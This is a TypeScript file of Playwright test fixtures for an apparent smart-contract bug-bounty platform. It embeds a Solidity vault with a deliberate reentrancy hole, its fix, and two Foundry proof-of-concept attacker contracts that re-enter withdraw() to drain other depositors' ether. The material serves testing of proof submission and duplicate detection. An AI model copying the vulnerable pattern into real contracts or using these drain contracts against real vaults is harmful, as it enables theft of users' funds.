import type { Locator, Page } from '@playwright/test';

/** A vault that pays before it books the withdrawal: reentrancy drains it (issue 28's test case). */
export const vaultWithReentrancy = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

contract Vault {
    mapping(address => uint256) public balances;

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "empty");
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "send failed");
        balances[msg.sender] = 0;
    }
}
`;

/** The same vault fixed: the balance is booked before the ether leaves. */
export const vaultFixed = vaultWithReentrancy.replace(
  `        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "send failed");
        balances[msg.sender] = 0;`,
  `        balances[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "send failed");`,
);

/** A proof that passes only while the bug is there: an attacker depositing 1 ether takes the 5 others put in. */
export const drainProof = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Test} from "forge-std/Test.sol";
import {Vault} from "Vault.sol";

contract Attacker {
    Vault private immutable vault;

    constructor(Vault target) {
        vault = target;
    }

    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (address(vault).balance >= 1 ether) vault.withdraw();
    }
}

contract DrainTest is Test {
    Vault private vault;

    function setUp() public {
        vault = new Vault();
        vm.deal(address(0xA11CE), 5 ether);
        vm.prank(address(0xA11CE));
        vault.deposit{value: 5 ether}();
    }

    function testDrain() public {
        Attacker attacker = new Attacker(vault);
        attacker.attack{value: 1 ether}();
        assertEq(address(vault).balance, 0);
        assertEq(address(attacker).balance, 6 ether);
    }
}
`;

/** A second hunter's proof of the same reentrancy: other names, other words, ten re-entries at most. */
export const sameBugOtherWords = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "forge-std/Test.sol";
import "Vault.sol";

/// Re-enters the payout until the vault runs dry.
contract Thief {
    Vault immutable target;
    uint256 loops;

    constructor(address v) {
        target = Vault(v);
    }

    function go() external payable {
        target.deposit{value: msg.value}();
        target.withdraw();
    }

    receive() external payable {
        loops += 1;
        if (loops <= 10 && address(target).balance >= 1 ether) target.withdraw();
    }
}

contract ReentrancyPoC is Test {
    Vault v;

    function setUp() public {
        v = new Vault();
        vm.deal(address(this), 5 ether);
        v.deposit{value: 4 ether}();
    }

    function test_thief_takes_more_than_it_gave() public {
        Thief t = new Thief(address(v));
        t.go{value: 1 ether}();
        assertGt(address(t).balance, 1 ether);
    }
}
`;

/** A project's card on /projects with its code under test, as its creator uses it. */
export class ProjectCodeScreen {
  readonly panel: Locator;
  readonly save: Locator;
  readonly versions: Locator;
  readonly findings: Locator;

  constructor(
    readonly page: Page,
    readonly projectName: string,
  ) {
    this.panel = page.getByTestId('project-code');
    this.save = this.panel.getByRole('button', { name: 'Save as new version' });
    this.versions = this.panel.getByTestId('code-version');
    this.findings = this.panel.getByTestId('project-finding');
  }

  async open(): Promise<void> {
    await this.page.getByRole('button', { name: `Code Under Test of ${this.projectName}` }).click();
  }

  /** The one file's source, by the file's name. */
  source(fileName: string): Locator {
    return this.panel.getByLabel(`Solidity source of ${fileName}`);
  }

  async renameFile(to: string): Promise<void> {
    await this.panel.getByLabel('File name').fill(to);
    await this.panel.getByRole('button', { name: 'Rename file' }).click();
  }

  version(n: number): Locator {
    return this.versions.filter({ hasText: `Version ${n}` });
  }
}

/** A completion's executable proof on /bounty/:id/complete or /bounty/:id/review. */
export class ProofScreen {
  readonly block: Locator;
  readonly verdict: Locator;
  readonly why: Locator;
  readonly sameFinding: Locator;
  readonly gas: Locator;
  readonly runAgain: Locator;
  readonly fileName: Locator;

  constructor(readonly page: Page) {
    this.block = page.getByTestId('proof-block');
    this.verdict = this.block.getByTestId('proof-verdict');
    this.why = this.block.getByTestId('proof-why');
    this.sameFinding = this.block.getByTestId('proof-same-finding');
    this.gas = this.block.getByTestId('proof-gas');
    this.runAgain = this.block.getByRole('button', { name: 'Run proof again' });
    this.fileName = page.getByLabel('Proof file name');
  }

  /** The claimer's test file in the completion form (the proof block above it shows the submitted one read-only, under the same label). */
  testSource(fileName: string): Locator {
    return this.page.getByRole('group', { name: 'Executable proof (optional)' }).getByLabel(`Solidity source of ${fileName}`, { exact: true });
  }

  /** The bounty's code version's file, read-only, in the completion form. */
  versionSource(fileName: string): Locator {
    return this.page.getByTestId('version-sources').getByLabel(`Solidity source of ${fileName}`, { exact: true });
  }
}
